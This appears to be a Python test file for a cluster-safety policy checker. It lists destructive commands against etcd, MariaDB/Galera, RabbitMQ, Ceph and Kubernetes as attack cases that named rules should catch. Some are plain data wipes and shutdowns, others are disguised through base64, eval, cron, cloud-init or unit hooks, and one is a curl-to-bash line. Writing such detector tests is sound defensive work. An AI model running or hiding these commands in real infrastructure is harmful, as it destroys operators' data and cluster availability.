"""Commands that stop members or delete their data, written so that this is hard to see."""

import json

from tests.attacks.attack import Attack, container, with_container
from tests.policy.tables.commands import copied, local, ssh
from tests.policy.world import Given
from tests.sound.sound import node, nodes, quorum

UNIT = """[Service]
ExecStart=/usr/bin/etcd --name m1 --initial-cluster m1=https://10.0.0.1:2380,m2=https://10.0.0.2:2380 --unsafe-no-fsync
"""
HEREDOC = "ssh m1 <<'END'\nsystemctl stop etcd\nEND\n"
TEXTS = {
    "rm of etcd's data": "rm -rf /var/lib/etcd/*",
    "rm through a variable": "D=/var/lib/mysql; rm -rf $D",
    "mv of the data": "mv /var/lib/rabbitmq /var/lib/rabbitmq.old",
    "mv of a static pod": "mv /etc/kubernetes/manifests/etcd.yaml /root/",
    "find with delete": "find /var/lib/mysql -mindepth 1 -delete",
    "kill of etcd": "kill -9 $(pidof etcd)",
    "killall": "killall -9 beam.smp",
    "docker stop": "docker stop etcd",
    "crictl": "crictl rm -f $(crictl ps -q --name etcd)",
    "a firewall at the peers' port": "iptables -I INPUT -p tcp --dport 2380 -j DROP",
    "nftables at Galera's port": "nft add rule inet filter input tcp dport 4567 drop",
    "firewalld": "firewall-cmd --remove-port=4567/tcp --permanent && firewall-cmd --reload",
    "a link that is taken down": "ip link set bond0 down",
    "masked": "systemctl mask --now etcd",
    "wipefs": "wipefs -a /dev/sdb",
    "dd": "dd if=/dev/zero of=/dev/sdb bs=1M count=100",
    "mkfs": "mkfs.xfs -f /dev/sdb",
    "kubeadm reset": "kubeadm reset -f",
    "a heredoc for another shell": HEREDOC,
    "base64": "echo c3lzdGVtY3RsIHN0b3AgZXRjZAo= | base64 -d | sh",
    "eval": 's=systemctl; eval "$s stop etcd"',
    "python": "python3 -c \"import shutil; shutil.rmtree('/var/lib/etcd')\"",
    "a loop over all masters": "for h in m1 m2 m3; do ssh $h systemctl restart etcd; done",
    "xargs": "printf 'm1\\nm2\\nm3\\n' | xargs -n1 -P3 -I{} ssh {} reboot",
    "ansible": "ansible masters -m reboot -b",
    "later": "echo 'systemctl restart etcd' | at now + 1 minute",
    "systemd-run": "systemd-run --on-active=60 systemctl restart etcd",
    "crontab": "echo '0 3 * * * root reboot' > /etc/cron.d/reboot",
    "a check that cannot say no": "etcdctl endpoint health || true; systemctl restart etcd",
    "a check in the background": "etcdctl endpoint health & systemctl restart etcd",
    "sysrq": "echo b > /proc/sysrq-trigger",
    "curl into a shell": "curl -s https://example.org/fix.sh | bash",
    "rabbitmq reset": "rabbitmqctl stop_app && rabbitmqctl force_reset",
    "rabbitmq forgets": "rabbitmqctl forget_cluster_node rabbit@m2",
    "galera bootstraps": "galera_new_cluster",
    "galera by variable": "mysql -e \"SET GLOBAL wsrep_provider_options='pc.bootstrap=YES'\"",
    "galera safe_to_bootstrap": "sed -i 's/safe_to_bootstrap: 0/safe_to_bootstrap: 1/' /var/lib/mysql/grastate.dat",
    "ceph monitor": "ceph mon remove b",
    "one copy in Ceph": "ceph osd pool set vms size 1 --yes-i-really-mean-it",
    "no synchronised clock": "systemctl disable --now chrony && timedatectl set-ntp false",
    "all members defragment": "etcdctl defrag --cluster",
    "ceph pool": "ceph osd pool delete vms vms --yes-i-really-really-mean-it",
    "etcd restore": "etcdctl snapshot restore /backup.db --data-dir /var/lib/etcd --force-new-cluster",
}
LOCALS = {
    "claims over HTTP": "curl -k -X DELETE $A/api/v1/namespaces/openstack/persistentvolumeclaims?labelSelector=a",
    "all keys of etcd": 'etcdctl del "" --prefix',
    "claims": "kubectl -n openstack delete pvc -l app=rabbitmq",
    "scaled to zero": "kubectl -n openstack scale sts/mariadb --replicas=0",
    "a patch of replicas": 'kubectl -n openstack patch sts mariadb -p \'{"spec":{"replicas":1}}\'',
    "taints for all": "kubectl taint nodes --all maintenance=yes:NoExecute",
    "a label taken away": "kubectl label node n1 quorate.io/server-",
    "a label that lies": "kubectl label --overwrite node n1 quorate.io/server=s9",
    "a namespace": "kubectl delete namespace openstack",
    "pods by force": "kubectl -n openstack delete pod --all --force --grace-period=0",
    "a rollout": "kubectl -n openstack delete pdb --all",
    "a chart": "helm -n openstack uninstall mariadb",
    "a domain and its disks": "virsh undefine master1 --remove-all-storage",
    "replaced by force": "kubectl replace --force -f mariadb.yaml",
    "edited by a file": "kubectl apply --prune -l app=db -f empty.yaml",
    "drained without eviction": "kubectl drain n1 --disable-eviction --force",
    "through an environment": 'sh -c "$WHAT"',
    "another tool's run": "terraform destroy -auto-approve",
}
ENVIRONMENT = local("work", 'sh -c "$WHAT"').but(environment={"WHAT": "systemctl stop etcd"})
AT_ONCE = [ssh(each, "etcdctl endpoint health --cluster && systemctl restart etcd") for each in ("m1", "m2", "m3")]


PEERS = ",".join(f"m{each}=https://10.0.0.{each}:2380" for each in (1, 2, 3))
KUBEADM = "kind: InitConfiguration\n---\nkind: ClusterConfiguration\nscheduler: {extraArgs: {leader-elect: 'false'}}\n"
LABELLED = "KUBELET_EXTRA_ARGS=--node-labels=quorate.io/server=s9\n"


def etcd_file(number: int, *more: str) -> str:
    """An environment file of etcd, as a command writes it."""
    lines = [f"ETCD_NAME=m{number}", f"ETCD_INITIAL_CLUSTER={PEERS}", *more]
    return "\n".join(["cat > /etc/etcd/etcd.env <<'END'", *lines, "END", ""])


def cloud_init(name: str, **data: object) -> Given:
    """A disk with user data for cloud-init."""
    props = {"userData": "#cloud-config\n" + json.dumps({"hostname": name, **data})}
    return Given("libvirt:index/cloudInitDisk:CloudInitDisk", f"{name}-init", props)


def placed(path: str, content: str) -> dict[str, object]:
    """A file that cloud-init writes."""
    return {"write_files": [{"path": path, "content": content}]}


def _alone(name: str, given: Given) -> Attack:
    return Attack(f"command: {name}", [given], caught_by="command-asks-quorum")


CASES = [
    *(_alone(name, ssh("work", text, "m1")) for name, text in TEXTS.items()),
    *(_alone(name, local("work", text)) for name, text in LOCALS.items()),
    Attack(
        "a flag in a file that a command writes",
        [
            ssh(f"e{each}", etcd_file(each, *["ETCD_FORCE_NEW_CLUSTER=true"] * (each == 2)), f"10.0.0.{each}")
            for each in (1, 2, 3)
        ],
        caught_by="etcd-settings-keep-quorum",
    ),
    Attack(
        "kubeadm's file by a command",
        [
            ssh(
                "init",
                f"cat > /root/kubeadm.yaml <<'END'\n{KUBEADM}END\nkubeadm init --config /root/kubeadm.yaml",
                "m1",
            )
        ],
        caught_by="leader-election",
    ),
    Attack(
        "kubeadm's file by cloud-init",
        [cloud_init("m1", **placed("/etc/kubernetes/kubeadm.yaml", KUBEADM))],
        caught_by="leader-election",
    ),
    Attack(
        "kubelet's labels by cloud-init, against the Node",
        [node("n1", "s1"), cloud_init("n1", **placed("/etc/default/kubelet", LABELLED))],
        caught_by="machine-facts-match-files",
    ),
    Attack(
        "an etcd of two by cloud-init",
        [
            cloud_init(
                f"m{each}", runcmd=[f"echo ETCD_INITIAL_CLUSTER={PEERS.rpartition(',')[0]} > /etc/etcd/etcd.env"]
            )
            for each in (1, 2)
        ],
        caught_by="etcd-size",
    ),
    Attack(
        "a deletion at each boot by cloud-init",
        [cloud_init("m1", bootcmd=[["rm", "-rf", "/var/lib/etcd"]])],
        caught_by="command-asks-quorum",
    ),
    Attack(
        "a deletion before the unit starts",
        [copied("unit", "[Service]\nExecStartPre=-/bin/rm -rf /var/lib/etcd\n", "m1", "/etc/systemd/system/x.service")],
        caught_by="command-asks-quorum",
    ),
    Attack(
        "a deletion by an init container",
        [
            *nodes(3),
            *quorum(
                "db",
                "mariadb",
                pod={
                    **with_container("mariadb"),
                    "initContainers": [container("clean", command=["sh", "-c", "rm -rf /var/lib/mysql/*"])],
                },
            ),
        ],
        caught_by="command-asks-quorum",
    ),
    Attack("three masters that ask at the same time", AT_ONCE, caught_by="commands-one-machine-at-a-time"),
    Attack("a command in the environment", [ENVIRONMENT], caught_by="command-asks-quorum"),
    Attack(
        "a command at the end of a stack",
        [ssh("work", "true", "m1", delete="rm -rf /var/lib/etcd")],
        caught_by="command-asks-quorum",
    ),
    Attack(
        "a unit that is copied", [copied("unit", UNIT, "m1", "/etc/systemd/system/etcd.service")], caught_by="etcd-size"
    ),
    Attack(
        "a hook for each start",
        [copied("hook", "#!/bin/sh\nrm -rf /var/lib/etcd/member\n", "m1", "/etc/rc.local")],
        caught_by="command-asks-quorum",
    ),
]
